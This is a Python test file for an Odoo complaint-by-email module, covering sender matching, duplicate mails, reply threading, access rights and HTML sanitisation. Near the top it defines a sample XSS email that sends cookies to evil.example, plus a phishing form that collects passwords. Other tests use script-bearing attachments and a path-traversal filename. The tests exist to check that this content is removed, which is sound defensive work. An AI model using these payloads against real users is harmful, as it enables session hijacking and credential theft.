import hashlib
import random

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged
from odoo.tools import SQL, mute_logger

from .mail_common import MailCommon

HOSTILE = """<html><body onload="steal()"><h1>It leaks</h1>
<script>document.location = "https://evil.example/" + document.cookie</script>
<a href="javascript:steal()">Look</a><img src="x" onerror="steal()"/><iframe src="https://evil.example"></iframe>
<style>body { display: none }</style><form action="https://evil.example"><input name="password"/></form></body></html>"""
BAD = ("<script", "javascript:", "onerror", "onload", "<iframe", "<form", "<style", "evil.example/")
ANSWER = "We are sorry"
QUESTION = "Which one?"
WORDS = "It was the blue one"


@tagged("post_install", "-at_install")
class TestComplaintMail(MailCommon):
    def test_mail_of_a_known_contact(self):
        complaint = self.receive("Half of the gel is gone")
        self.assertEqual((complaint.partner_id, complaint.contact_id), (self.customer, self.contact))
        self.assertEqual((complaint.channel, complaint.company_id, complaint.state), ("email", self.company, "new"))
        self.assertEqual((complaint.category_id, complaint.user_id), (self.leaking, self.agent))
        self.assertRegex(complaint.name, r"^CP/")
        self.assertEqual(complaint.subject, "Parcel")
        self.assertIn("Half of the gel is gone", complaint.description)
        self.assertIn("Half of the gel is gone", self.words(complaint).body)
        self.assertEqual(complaint.event_ids.mapped("kind"), ["received", "acknowledged"])

    def test_unknown_sender(self):
        complaint = self.receive(sender="Nobody <nobody@example.org>")
        self.assertFalse(complaint.partner_id | complaint.contact_id)
        self.assertIn("nobody@example.org", complaint.email_from)

    def test_unknown_sender_waits_for_an_agent_who_finds_the_customer(self):
        complaint = self.receive("Half of the gel is gone", sender="Nobody <nobody@example.org>").with_user(self.agent)
        with self.assertRaisesRegex(UserError, "find out who the customer is"):
            complaint.action_accept()
        complaint.write({"partner_id": self.customer.id, "contact_id": self.contact.id})
        complaint.action_accept()
        self.assertEqual((complaint.state, complaint.partner_id, complaint.contact_id), ("accepted", self.customer, self.contact))
        self.assertIn("nobody@example.org", complaint.email_from, "who wrote stays known")
        self.assertIn("Half of the gel", self.words(complaint).body)
        self.assertEqual(complaint._mail_get_partners()[complaint.id], self.contact)

    def test_address_of_two_customers_says_nothing(self):
        other = self.make_customer("Somebody Else", email="caller@example.com")
        complaint = self.receive()
        self.assertFalse(complaint.partner_id)
        other.active = False
        self.assertEqual(self.receive(Subject="Again").partner_id, self.customer)

    def test_employee_who_hands_it_on_is_not_the_customer(self):
        self.colleague.partner_id.email = "colleague@example.com"
        complaint = self.receive(sender="colleague@example.com")
        self.assertFalse(complaint.partner_id)

    def test_customer_of_another_company(self):
        self.customer.company_id = self.other_company
        self.contact.company_id = self.other_company
        self.assertFalse(self.receive().partner_id)

    def test_scripts_are_taken_out(self):
        complaint = self.receive(html=HOSTILE, Subject="<script>steal()</script>")
        for text in (complaint.description, self.words(complaint).body):
            self.assertIn("It leaks", text)
            for bad in BAD:
                self.assertNotIn(bad, text)
        self.assertNotIn("<img", complaint.description)
        self.assertEqual(complaint.subject, "<script>steal()</script>")

    def test_scripts_are_not_in_the_database_either(self):
        complaint = self.receive(html=HOSTILE)
        message = self.words(complaint)
        self.env.flush_all()
        rows = self.env.execute_query(
            SQL("SELECT description FROM crm_complaint WHERE id = %s UNION ALL SELECT body FROM mail_message WHERE id = %s",
                complaint.id, message.id)
        )  # fmt: skip
        self.assertEqual(len(rows), 2)
        for (text,) in rows:
            self.assertIn("It leaks", text)
            for bad in BAD:
                self.assertNotIn(bad, text)

    def test_large_attachment_is_kept_whole(self):
        data = random.Random(7).randbytes(20 * 1024 * 1024)
        complaint = self.receive(files=[("leak.bin", data)])
        attachment = self.words(complaint).attachment_ids
        self.assertEqual((attachment.name, attachment.file_size), ("leak.bin", len(data)))
        self.assertEqual(hashlib.sha256(attachment.raw).digest(), hashlib.sha256(data).digest())
        self.assertEqual((attachment.res_model, attachment.res_id), ("crm.complaint", complaint.id))

    def test_pages_sent_along_are_not_run(self):
        complaint = self.receive(files=[("../../page.html", b"<script>steal()</script>"), ("a.svg", b"<svg onload='x()'/>")])
        attachments = self.words(complaint).attachment_ids
        self.assertEqual(len(attachments), 2)
        for attachment in attachments:
            self.assertNotIn("html", attachment.mimetype)
            self.assertNotIn("svg", attachment.mimetype)

    def test_same_mail_twice(self):
        number = {"Message_Id": "<one@example.com>"}
        first = self.receive(**number)
        self.assertTrue(first)
        self.assertFalse(self.receive(**number))
        self.assertEqual(len(self.words(first)), 1)
        self.assertEqual(self.env["crm.complaint"].search([("mailbox_id", "=", self.mailbox.id)]), first)

    def test_another_mail_with_the_same_number(self):
        number = {"Message_Id": "<1@device.example>"}
        first = self.receive(**number)
        second = self.receive("It leaks again", Date="Tue, 02 Jun 2026 08:00:00 +0000", **number)
        self.assertTrue(second)
        self.assertNotEqual(first, second)
        self.assertFalse(self.receive("It leaks again", Date="Tue, 02 Jun 2026 08:00:00 +0000", **number))

    def test_another_text_with_the_same_number(self):
        """Same sender, subject and second, with and without a date: what is in it counts."""
        for number, date in (("<2@device.example>", "Tue, 02 Jun 2026 08:00:00 +0000"), ("<3@device.example>", None)):
            headers = {"Message_Id": number, "Date": date}
            first = self.receive("It leaks", **headers)
            second = self.receive("It burns", **headers)
            file = self.receive("It leaks", files=[("a.txt", b"a")], **headers)
            self.assertEqual(len(first | second | file), 3)
            self.assertFalse(self.receive("It leaks", **headers))
            self.assertFalse(self.receive("It burns", **headers))
            self.assertFalse(self.receive("It leaks", Received="from elsewhere", **headers))

    def test_another_sender_with_the_same_number_and_no_date(self):
        headers = {"Message_Id": "<4@device.example>", "Date": None}
        self.assertTrue(self.receive("It leaks", **headers))
        other = self.receive("It leaks", sender="q@example.com", Subject="Other", **headers)
        self.assertEqual(other.subject, "Other")

    def test_charset_of_no_world(self):
        raw = self.mail("It leaks").replace(b'charset="utf-8"', b'charset="klingon"')
        self.assertIn(b"klingon", raw)
        complaint_id = self.env["mail.thread"].message_process(None, raw)
        self.assertIn("It leaks", self.env["crm.complaint"].browse(complaint_id).description)

    def test_strangers_and_forged_senders_are_not_the_customer(self):
        complaint = self.receive()
        mine = complaint.with_user(self.agent)
        mine.action_accept()
        said = mine.message_post(
            body=QUESTION, message_type="comment", subtype_xmlid="mail.mt_comment", partner_ids=self.contact.ids
        )
        mine.action_pause("Which one")
        joined = {"In_Reply_To": said.message_id, "References": said.message_id, "Subject": "Re: Parcel"}
        self.assertEqual(self.receive("I am the customer", sender="evil@example.net", **joined), complaint)
        self.agent.partner_id.email = "agent@service.example.com"
        self.assertEqual(self.receive("We pay you a million", sender="agent@service.example.com", **joined), complaint)
        self.assertTrue(complaint.paused_on)
        shown = self.env["crm.complaint.portal"]._page(complaint.id, complaint.sudo()._portal_ensure_token())["messages"]
        text = " ".join(str(each["body"]) for each in shown)
        self.assertIn("Which one?", text)
        self.assertNotIn("I am the customer", text)
        self.assertNotIn("a million", text)
        self.receive("The blue one", **joined)
        self.assertFalse(complaint.paused_on)

    def test_odd_mails(self):
        for mail in (
            self.mail(Subject=None, Date=None, Message_Id=None),
            self.mail(sender="not an address"),
            self.mail(Subject="long " * 2000),
            self.mail(html="<p>" + "deep <b>" * 3000),
            b"From: caller@example.com\r\nTo: complaints@service.example.com\r\nSubject: =?utf-8?q?a=00b?=\r\n"
            b"Message-Id: <nul@example.com>\r\n\r\nIt\x00leaks \xff\xfe",
        ):
            complaint_id = self.env["mail.thread"].message_process(None, mail)
            complaint = self.env["crm.complaint"].browse(complaint_id)
            self.assertTrue(complaint.subject)
            self.assertLessEqual(len(complaint.subject), 200)
            self.env.flush_all()

    def answered(self, complaint, text="More words", **headers):
        return self.receive(text, References=self.words(complaint)[:1].message_id, **headers)

    def test_answer_joins_the_complaint(self):
        complaint = self.receive()
        self.assertEqual(self.answered(complaint, cc="Boss <boss@example.com>"), complaint)
        self.assertEqual(len(self.words(complaint)), 2)
        self.assertEqual(complaint.event_ids.mapped("kind"), ["received", "acknowledged", "wrote"])
        self.assertEqual(complaint.email_cc, '"Boss" <boss@example.com>')

    def test_answer_after_the_end(self):
        complaint = self.receive()
        complaint.with_user(self.service_manager).action_withdraw("Found it")
        for _time in range(2):
            self.assertEqual(self.answered(complaint), complaint)
        self.assertEqual(complaint.state, "withdrawn")
        wrote = self.env.ref("crm_industry.mail_activity_complaint_wrote")
        self.assertEqual(complaint.activity_ids.activity_type_id, wrote)
        self.assertEqual(complaint.activity_ids.user_id, self.agent)

    def test_machines_and_employees_are_no_word_of_the_customer(self):
        complaint = self.receive()
        complaint.with_user(self.service_manager).action_withdraw("Found it")
        self.answered(complaint, "I am on holiday", Auto_Submitted="auto-replied")
        self.answered(complaint, "Out", Precedence="bulk")
        self.colleague.partner_id.email = "colleague@example.com"
        self.answered(complaint, "Our answer", sender="colleague@example.com")
        self.assertEqual(len(self.words(complaint)), 4)
        self.assertNotIn("wrote", complaint.event_ids.mapped("kind"))
        self.assertFalse(complaint.activity_ids)

    def test_words_of_a_machine_end_no_pause(self):
        complaint = self.receive().with_user(self.agent)
        complaint.action_accept()
        complaint.action_note_reply()
        complaint.action_pause("Which bottle?")
        self.answered(complaint, "I am on holiday", Auto_Submitted="auto-replied")
        self.assertTrue(complaint.paused_on)
        self.answered(complaint, "The blue one")
        self.assertFalse(complaint.paused_on)

    def test_no_key_of_a_context_hides_the_words_of_the_customer(self):
        """Odoo's pages let a client send any context along with a message."""
        keys = ("first", "automatic", "unanswered", "is_automatic", "begun")
        forged = dict.fromkeys((*keys, *(f"complaint_mail_{key}" for key in keys)), True)
        forged["mail_activity_automation_skip"] = True
        complaint = self.receive().with_user(self.agent)
        complaint.action_accept()
        complaint.action_note_reply()
        complaint.action_pause("Which bottle?")
        self.write_as_contact(complaint, **forged)
        self.assertFalse(complaint.paused_on)
        self.assertEqual(complaint.event_ids.mapped("kind")[-2:], ["wrote", "resumed"])
        complaint.with_user(self.service_manager).action_withdraw("Found it")
        self.write_as_contact(complaint, **forged)
        self.assertEqual(complaint.event_ids.mapped("kind")[-1], "wrote")
        wrote = self.env.ref("crm_industry.mail_activity_complaint_wrote")
        self.assertIn(wrote, complaint.activity_ids.activity_type_id)

    def write_as_contact(self, complaint, **context):
        complaint.sudo().with_context(**context).message_post(
            body=WORDS, author_id=self.contact.id, message_type="comment", subtype_xmlid="mail.mt_comment"
        )

    def test_the_first_mail_hides_no_later_one(self):
        first, second = self.receive(), self.receive(Subject="Another parcel")
        self.answered(first)
        self.answered(second)
        for complaint in (first, second):
            self.assertEqual(complaint.event_ids.mapped("kind"), ["received", "acknowledged", "wrote"])

    def test_mail_that_comes_back(self):
        complaint = self.receive()
        complaint._message_receive_bounce("caller@example.com", self.contact)
        self.assertEqual(complaint.activity_ids.activity_type_id, self.env.ref("crm_industry.mail_activity_complaint_bounced"))

    def test_answers_come_back_to_the_mailbox(self):
        complaint = self.receive()
        self.assertIn("complaints@service.example.com", complaint._notify_get_reply_to()[complaint.id])
        self.assertEqual(complaint._mail_get_partners()[complaint.id], self.contact)

    def test_agent_answers_and_the_customer_gets_it(self):
        complaint = self.receive()
        message = complaint.with_user(self.agent).message_post(
            body=ANSWER, partner_ids=self.contact.ids, message_type="comment", subtype_xmlid="mail.mt_comment"
        )
        mail = self.env["mail.mail"].sudo().search([("mail_message_id", "=", message.id)])
        self.assertEqual(mail.recipient_ids, self.contact)
        self.assertIn("complaints@service.example.com", mail.reply_to)

    def test_archived_mailbox_still_takes_mails(self):
        self.mailbox.active = False
        self.assertEqual(self.receive().mailbox_id, self.mailbox)

    def test_mailboxes_are_set_up_by_managers(self):
        with self.assertRaises(AccessError):
            self.mailbox.with_user(self.agent).write({"name": "Mine"})
        with self.assertRaises(AccessError), mute_logger("odoo.models"):
            self.mailbox.with_user(self.other_agent).read(["name"])
        self.mailbox.with_user(self.service_manager).write({"alias_name": "service", "category_id": False})
        self.assertEqual(self.mailbox.alias_email, "service@service.example.com")
